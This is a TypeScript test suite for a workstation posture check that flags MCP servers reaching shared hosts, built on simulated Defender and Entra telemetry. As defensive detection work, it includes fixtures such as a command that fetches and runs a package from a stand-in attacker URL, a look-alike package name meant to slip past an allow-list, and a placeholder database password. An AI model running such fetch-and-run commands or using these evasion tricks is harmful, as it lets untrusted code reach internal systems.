import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, beforeEach, test } from 'node:test';
import { seededGuid } from '../../../local/tenant/entra/directory.ts';
import { emptyEntra } from '../../../local/tenant/entra/state/state.ts';
import { makeGraph } from '../../../local/tenant/entra/vendor.ts';
import type { MachineReport } from '../../../src/machines/report.ts';
import { noneOnWorkstations } from '../../../src/posture/checks/none-on-workstations.ts';
import { workstationServers } from '../../../src/posture/readings/servers/workstation-servers.ts';
import { keptMachine } from '../../support/apps/kept-machine.ts';
import { startApp } from '../../support/apps/start-app.ts';
import { checked, told } from '../support/checked.ts';
import { withoutEach } from '../support/permissions-away.ts';

const entra = emptyEntra();
const app = await startApp({ vendors: (core) => [makeGraph(core, entra)], storage: true });
after(() => app.stop());

const DAY_MS = 86_400_000;
const ago = (days: number): Date => new Date(Date.now() - days * DAY_MS);
const { tables } = entra.defender;
const SERVER = 'npx -y @modelcontextprotocol/server-postgres postgresql://app:s3cr3t@crm.northwind.example/prod';
const hashOf = (text: string): string => createHash('sha256').update(text).digest('hex');

/** A device of the directory; one of two is written in capitals by Defender. */
function device(
  name: string,
  more: { readonly reported?: number | undefined; readonly type?: string; readonly os?: string } = {},
): void {
  const { type = 'Workstation', os = 'Windows' } = more;
  const reported = 'reported' in more ? more.reported : 1;
  const deviceId = seededGuid(`device ${name}`);
  entra.devices.add({
    id: seededGuid(`object ${name}`),
    deviceId,
    displayName: name,
    accountEnabled: true,
    operatingSystem: os,
    approximateLastSignInDateTime: ago(9).toISOString(),
  });
  if (reported === undefined) return;
  tables.DeviceInfo.push({
    ...{ Timestamp: ago(reported), DeviceId: `d-${name}`, DeviceName: name, AadDeviceId: deviceId.toUpperCase() },
    ...{ OnboardingStatus: 'Onboarded', DeviceType: type, OSPlatform: 'Windows11' },
  });
}
const runs = (name: string, text: string, days = 3): void => {
  tables.DeviceProcessEvents.push({ Timestamp: ago(days), DeviceId: `d-${name}`, ProcessCommandLine: text });
};
const connects = (name: string, text: string, more: Readonly<Record<string, string>> = {}): void => {
  tables.DeviceNetworkEvents.push({
    ...{ Timestamp: ago(2), DeviceId: `d-${name}`, ActionType: 'ConnectionSuccess' },
    ...{ InitiatingProcessCommandLine: text, RemoteIP: '10.2.0.9', RemoteUrl: 'crm.northwind.example' },
    ...more,
  });
};

beforeEach(() => {
  for (const rows of Object.values(tables)) rows.length = 0;
  entra.devices.clear();
  Object.assign(entra.defender, { licensed: true, rowLimit: 100_000 });
  entra.switches.pageSize = 100;
  device('a');
});

const ON: Partial<typeof app.config> = { WORKSTATION_HUNTING: 'on', SHARED_HOSTS: ['northwind.example', '10.2.0.9'] };
const outcome = async (settings: object = {}): Promise<string> =>
  told(await checked(app, noneOnWorkstations, { ...ON, ...settings }));
const FAILS = `fail: reaches-shared-host ${hashOf(SERVER)}`;

const SITUATIONS: readonly (readonly [situation: string, make: () => void, said: string, settings?: object])[] = [
  ['nothing runs', () => {}, 'pass'],
  ['an editor', () => connects('a', 'C:/Program Files/Code.exe --type=renderer mcpanel'), 'pass'],
  ['npx server to a shared host', () => [runs('a', SERVER), connects('a', SERVER)], FAILS],
  ['only its connection is told', () => connects('a', SERVER), FAILS],
  ['by its address', () => connects('a', SERVER, { RemoteUrl: '', RemoteIP: '::ffff:10.2.0.9' }), FAILS],
  [
    'allow-listed, by its package',
    () => connects('a', SERVER),
    'pass',
    { ALLOWED_WORKSTATION_SERVERS: ['@modelcontextprotocol/server-postgres'] },
  ],
  [
    'allow-listed, by its command line',
    () => connects('a', SERVER),
    'pass',
    { ALLOWED_WORKSTATION_SERVERS: [hashOf(SERVER)] },
  ],
  ['another one is allow-listed', () => connects('a', SERVER), FAILS, { ALLOWED_WORKSTATION_SERVERS: ['server-post'] }],
  [
    'the name of an allowed one in another argument',
    () => connects('a', `${SERVER} --instead-of @modelcontextprotocol/server-memory`),
    `fail: reaches-shared-host ${hashOf(`${SERVER} --instead-of @modelcontextprotocol/server-memory`)}`,
    { ALLOWED_WORKSTATION_SERVERS: ['@modelcontextprotocol/server-memory'] },
  ],
  [
    'its name begins like that of an allowed one',
    () => connects('a', 'npx mcp-server-evil'),
    `fail: reaches-shared-host ${hashOf('npx mcp-server-evil')}`,
    { ALLOWED_WORKSTATION_SERVERS: ['mcp-server'] },
  ],
  [
    'allow-listed, by a path, in quotes, with a version, and with the gateway’s address',
    () => {
      connects(
        'a',
        '"C:\\Program Files\\node.exe" "C:\\npx\\node_modules\\MCP-Remote\\dist\\proxy.js" https://apim-mcp.azure-api.net/crm/mcp',
      );
      connects('a', 'npx -y mcp-remote@0.1.29 mcp-remote https://apim-mcp.azure-api.net/crm/mcp');
    },
    'pass',
    { ALLOWED_WORKSTATION_SERVERS: ['mcp-remote'] },
  ],
  [
    'started from an address, beside an allowed one',
    () => connects('a', 'npx https://evil.example/mcp-server.tgz mcp-remote'),
    `fail: reaches-shared-host ${hashOf('npx https://evil.example/mcp-server.tgz mcp-remote')}`,
    { ALLOWED_WORKSTATION_SERVERS: ['mcp-remote'] },
  ],
  ['a server without a connection: no network proof', () => runs('a', SERVER), 'unknown: no-data'],
  [
    'to somewhere else',
    () => connects('a', SERVER, { RemoteUrl: 'registry.npmjs.org', RemoteIP: '104.16.1.1' }),
    'unknown: no-data',
  ],
  ['a connection that failed', () => connects('a', SERVER, { ActionType: 'ConnectionFailed' }), 'unknown: no-data'],
  ['no shared host is named', () => runs('a', SERVER), 'unknown: no-data, not-configured', { SHARED_HOSTS: [] }],
  ['longer ago than Defender tells', () => runs('a', SERVER, 31), 'pass'],
  ['on what is a server', () => [device('s', { type: 'Server' }), connects('s', SERVER)], 'pass'],
  ['no Defender', () => Object.assign(entra.defender, { licensed: false }), 'unknown: unreadable'],
  ['nothing reports', () => tables.DeviceInfo.splice(0), 'unknown: partial'],
  [
    '80 % report',
    () => {
      for (const name of 'bcde') device(name, { reported: name === 'e' ? 8 : 2 });
    },
    'unknown: partial',
  ],
  [
    '80 % report, and one fails',
    () => {
      connects('a', SERVER);
      for (const name of 'bcde') device(name, { reported: name === 'e' ? undefined : 2 });
    },
    FAILS,
  ],
  [
    'phones do not count',
    () => {
      for (const os of ['iOS', 'AndroidForWork', 'IPad']) device(os, { os, reported: undefined });
    },
    'pass',
  ],
  [
    'a device of which Entra knows no sign-in, and Defender nothing',
    () => {
      device('new', { reported: undefined });
      entra.devices.patch(seededGuid('object new'), { approximateLastSignInDateTime: null });
    },
    'unknown: partial',
  ],
  [
    'one that is disabled, or has not signed in for months',
    () => {
      for (const name of ['off', 'old']) device(name, { reported: undefined });
      entra.devices.patch(seededGuid('object off'), { accountEnabled: false });
      entra.devices.patch(seededGuid('object old'), { approximateLastSignInDateTime: ago(90).toISOString() });
    },
    'pass',
  ],
  ['no device at all', () => entra.devices.clear(), 'unknown: no-data'],
  ['nobody turned it on', () => connects('a', SERVER), 'unknown: not-configured', { WORKSTATION_HUNTING: 'off' }],
];
for (const [situation, make, said, settings] of SITUATIONS) {
  test(`${situation}: ${said.slice(0, 40)}`, async () => {
    make();
    assert.equal(await outcome(settings), said);
  });
}

for (const text of [
  'uvx mcp-server-git',
  'python -m mcp_server_time',
  'node C:/npx/figma-developer-mcp/cli.js',
  'docker run -i mcp/github-mcp-server',
  'uvx mcp-atlassian',
  'NODE.EXE @ModelContextProtocol\\server-everything',
]) {
  test(`is a server: ${text}`, async () => {
    connects('a', text);
    assert.equal(await outcome(), `fail: reaches-shared-host ${hashOf(text)}`);
  });
}

test('what is filed has the device and the hash, and no word of the command line', async () => {
  connects('a', SERVER);
  const judged = await checked(app, noneOnWorkstations, ON);
  assert.deepEqual(
    [judged.failures[0]?.evidence.hash, judged.failures[0]?.evidence.resource],
    [hashOf(SERVER), 'devices/d-a'],
  );
  assert.doesNotMatch(JSON.stringify(judged), /s3cr3t|server-postgres/);
  assert.deepEqual(judged.shows.not_seen, [
    'what runs in WSL',
    'what runs in containers',
    'runners that do not report',
  ]);
});

test('where it is off, nobody is asked', async () => {
  const from = app.tenant.calls.length;
  await outcome({ WORKSTATION_HUNTING: 'off' });
  assert.deepEqual(app.tenant.calls.slice(from), []);
});

test('an answer that was cut, and one of which the first page alone came: what fails fails, the rest is unknown', async () => {
  for (const name of 'bc') device(name);
  for (const name of 'abc') connects(name, SERVER);
  entra.defender.rowLimit = 3;
  const { status, failures, gaps } = await checked(app, noneOnWorkstations, ON);
  assert.deepEqual([status, failures.length, gaps.map(({ reason }) => reason)], ['fail', 2, ['partial', 'partial']]);
  tables.DeviceNetworkEvents.length = 0;
  assert.equal(await outcome(), 'unknown: partial');
  entra.defender.rowLimit = 100_000;
  assert.equal(await outcome(), 'pass');
});

test('the device that does not report is on the second page', async () => {
  entra.switches.largestPage = 1;
  device('b', { reported: undefined });
  assert.equal(await outcome(), 'unknown: partial');
  entra.switches.largestPage = 999;
});

withoutEach(app, [workstationServers], async (permission) => {
  assert.equal(await outcome(), `unknown: denied ${permission}`);
});

test('throttled to the end: nobody can say', async () => {
  const headers = { 'content-type': 'application/json' };
  const body = '{"error":{"code":"TooManyRequests","message":"You have exceeded processing resources allocated."}}';
  const effect = { kind: 'answer', status: 429, headers, body } as const;
  const lift = app.tenant.faults.add({ vendor: 'graph', path: /runHuntingQuery/, effect });
  assert.equal(await outcome(), 'unknown: throttled');
  lift();
});

test('what a runner says of servers on it adds what fails, and lets nothing pass', async () => {
  const { storage } = app.context.vendors;
  const at = new Date();
  const { sayer, report } = keptMachine('github', at.toISOString());
  const server = (name: string, more: Partial<MachineReport['servers'][number]>) => ({
    ...{ client: 'claude-code' as const, path: '~/.claude.json', name, transport: 'stdio' as const },
    ...{ tokens: [], otherCredential: false, ...more },
  });
  const say = (job: string, servers: MachineReport['servers'], minutes: number) => {
    const taken = new Date(at.getTime() + minutes * 60_000);
    return storage.keepMachine(sayer, { ...report, job, takenAt: taken.toISOString(), servers }, taken);
  };
  await say('1', [server('files', {})], 0);
  assert.equal(await outcome(), 'pass');
  await say('2', [server('files', {}), server('crm', { otherCredential: true })], 1);
  const on = 'crm';
  assert.equal(await outcome(), `fail: personal-on-runner ${on}`);
  entra.defender.licensed = false;
  assert.equal(await outcome(), `fail: personal-on-runner ${on}`);
  await say('3', [server('crm', {})], 2);
  entra.defender.licensed = true;
  assert.equal(await outcome(), 'unknown: no-data', 'its own word that it is given nothing any more is no proof');
  await say('4', [], 3);
  assert.equal(await outcome(), 'unknown: no-data', 'nor is an empty report');
  await say('5', [], 31 * 24 * 60);
  assert.equal(await outcome(), 'pass', 'after thirty days without a word of it');
  entra.defender.licensed = false;
  assert.equal(await outcome(), 'unknown: unreadable', 'nothing told is no pass');
});
